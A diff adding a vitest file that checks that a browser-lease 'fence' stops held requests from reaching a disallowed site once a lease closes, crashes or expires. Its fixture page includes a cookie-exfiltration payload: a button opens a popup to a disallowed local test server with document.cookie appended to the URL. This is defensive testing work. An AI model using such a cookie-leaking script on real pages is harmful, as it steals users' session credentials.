@@ -1,0 +1,189 @@
+import { Redis } from 'ioredis';
+import type { Browser, BrowserContext, Request } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { PlaywrightPageFactory } from '../../libs/lease/playwright-pages.js';
+import {
+  idemKey,
+  leaseOwnProfile,
+  startTestBrowserWorker,
+  type TestBrowserWorker,
+} from '../fixtures/browser-worker.js';
+import { PageServer } from '../fixtures/page-server.js';
+import { deletePrefixedKeys, testRedisUrl, uniquePrefix } from '../fixtures/redis.js';
+import { sleep } from './page-fence-rig.js';
+
+/**
+ * Proving an absence: a request the fence held and then let go reached the disallowed server
+ * about 3 s after the lease closed (the routes went, and the paused request with them). Nothing
+ * signals a request that never comes, so each case waits well past that on the wall clock.
+ */
+const AFTER_CLOSE_WAIT_MS = 10_000;
+const MINUTE_MS = 60_000;
+/** A popup's act waits for its tab (up to 5 s), then the close, then the wait above. */
+const CASE_TIMEOUT_MS = 90_000;
+
+/**
+ * A popup opened on about:blank, then sent to a disallowed site with the page's cookie in its URL.
+ * `localhost` is another site than 127.0.0.1, so the popup's navigation moves to a renderer of its
+ * own: that navigation waits in the fence while the popup's redirect guard is installed, and the
+ * guard cannot name the popup's frame until the navigation goes on — so the request stays held.
+ */
+function leakingPage(site: PageServer, away: PageServer, name: string): string {
+  const target = `${away.otherOrigin}/pages/second.html?c=`;
+  return site.addPage(
+    name,
+    `<!doctype html><html><head><title>${name}</title></head><body>
+      <script>document.cookie = 'sid=secret; path=/';</script>
+      <button type="button" onclick="window.open('about:blank').location = '${target}' + encodeURIComponent(document.cookie)">Open</button>
+      <button type="button" onclick="setTimeout(() => fetch('/api/slow?ms=1500'), 50)">Slow</button>
+    </body></html>`,
+  );
+}
+
+describe('requests a fence holds die with their lease', { timeout: CASE_TIMEOUT_MS }, () => {
+  const prefix = uniquePrefix('fence-close');
+  let worker: TestBrowserWorker;
+  let site: PageServer;
+  let browser: Browser | undefined;
+
+  beforeAll(async () => {
+    [worker, site] = await Promise.all([
+      startTestBrowserWorker({
+        prefix,
+        pages: (launched) => {
+          browser = launched;
+          return new PlaywrightPageFactory(launched);
+        },
+      }),
+      PageServer.start(),
+    ]);
+  });
+
+  afterAll(async () => {
+    await worker?.handle.close();
+    await site?.close();
+    const redis = new Redis(testRedisUrl());
+    await deletePrefixedKeys(redis, prefix);
+    redis.disconnect();
+  });
+
+  /** A lease on a page of the allowed site, the lease's browser context, and the disallowed server. */
+  async function leaseOnLeakingPage(runId: string) {
+    const away = await PageServer.start();
+    const before = new Set(browser?.contexts());
+    const lease = await leaseOwnProfile(worker, 'fence-close', runId, site.origin);
+    const context = browser?.contexts().find((candidate) => !before.has(candidate));
+    if (!context) throw new Error('the lease made no browser context');
+    const awayOrigin = away.otherOrigin;
+    const awayRequests: Request[] = [];
+    context.on('request', (request) => {
+      if (request.url().startsWith(awayOrigin)) awayRequests.push(request);
+    });
+    const navigated = await worker.call('POST', `${lease.path}/navigate`, {
+      body: { sequence: 1, url: leakingPage(site, away, `leak-${runId.replace(/_/g, '-')}.html`) },
+    });
+    expect(navigated.status).toBe(200);
+    return { ...lease, away, context, awayRequests, observation: navigated.body.observation };
+  }
+
+  async function click(path: string, sequence: number, observation: Observation, name: string) {
+    const element = observation.elements.find((candidate) => candidate.name === name);
+    return worker.call('POST', `${path}/act`, {
+      body: { sequence, args: { revision: observation.revision, element: element?.ref, action: 'click' } },
+    });
+  }
+
+  async function close(path: string) {
+    return worker.call('POST', `${path}/close`, { idempotencyKey: idemKey(), body: { seal: true } });
+  }
+
+  it('sends nothing to the disallowed site when a later step follows and the lease is closed', async () => {
+    const { path, away, observation } = await leaseOnLeakingPage('run_popup_later');
+    try {
+      const acted = await click(path, 2, observation, 'Open');
+      expect(acted.status).toBe(200);
+      const observed = await worker.call('POST', `${path}/observe`, { body: {} });
+      expect(observed.status).toBe(200);
+      expect(away.log).toEqual([]);
+      const closed = await close(path);
+      expect(closed.status).toBe(200);
+      expect(closed.body.state).toBe('closed');
+      await sleep(AFTER_CLOSE_WAIT_MS);
+      expect(away.log).toEqual([]);
+    } finally {
+      await away.close();
+    }
+  });
+
+  it('closes a lease whose page crashed while a popup request was held, and nothing leaves', async () => {
+    const { path, away, context, awayRequests, observation } = await leaseOnLeakingPage('run_popup_crash');
+    try {
+      const acted = await click(path, 2, observation, 'Open');
+      expect(acted.status).toBe(200);
+      expect(awayRequests).toHaveLength(1);
+      const [page] = context.pages();
+      if (!page) throw new Error('the lease has no page');
+      const crashed = new Promise((resolve) => page.once('crash', resolve));
+      const session = await context.newCDPSession(page);
+      // Page.crash never answers: the renderer it would answer from is gone.
+      void session.send('Page.crash').catch(() => undefined);
+      await crashed;
+      const closed = await close(path);
+      expect(closed.status).toBe(200);
+      expect(closed.body.state).toBe('closed');
+      await sleep(AFTER_CLOSE_WAIT_MS);
+      expect(away.log).toEqual([]);
+    } finally {
+      await away.close();
+    }
+  });
+
+  it('answers lease_expired, not an internal error, to an act still settling when its lease closes', async () => {
+    const { path, away, observation } = await leaseOnLeakingPage('run_settling_close');
+    await away.close();
+    const acting = click(path, 2, observation, 'Slow');
+    // The click's fetch holds the settle (up to 2 s); the close comes while it waits.
+    await expect.poll(() => site.log.some((entry) => entry.path.startsWith('/api/slow'))).toBe(true);
+    const closed = await close(path);
+    expect(closed.status).toBe(200);
+    const acted = await acting;
+    expect(acted.status).toBe(409);
+    expect(acted.body.error.code).toBe('lease_expired');
+  });
+
+  it('aborts a popup request held in the fence when the expiry sweep closes the lease', async () => {
+    const { path, away, context, awayRequests, observation } = await leaseOnLeakingPage('run_popup_expiry');
+    try {
+      const failed = failures(context);
+      const acting = click(path, 2, observation, 'Open');
+      // The popup's request is in the browser and not at the server: the fence holds it.
+      await expect.poll(() => awayRequests.length, { timeout: 10_000 }).toBe(1);
+      expect(away.log).toEqual([]);
+      // The sweep (every 100 ms in the test worker) finds the lease past its expiry and closes it.
+      // (Last in the file: the test worker's clock stays moved for the tests after it.)
+      worker.clock.advance(11 * MINUTE_MS);
+      await expect
+        .poll(async () => (await worker.call('GET', path)).body.state, { timeout: 15_000 })
+        .toBe('closed');
+      expect((await acting).status).not.toBe(500);
+      // Aborted, not continued: the browser reports the request failed.
+      expect(failed).toContain(awayRequests[0]);
+      await sleep(AFTER_CLOSE_WAIT_MS);
+      expect(away.log).toEqual([]);
+    } finally {
+      await away.close();
+    }
+  });
+});
+
+interface Observation {
+  revision: string;
+  elements: { ref: string; name: string }[];
+}
+
+/** The requests of `context` that failed from now on. */
+function failures(context: BrowserContext): Request[] {
+  const failed: Request[] = [];
+  context.on('requestfailed', (request) => failed.push(request));
+  return failed;
+}
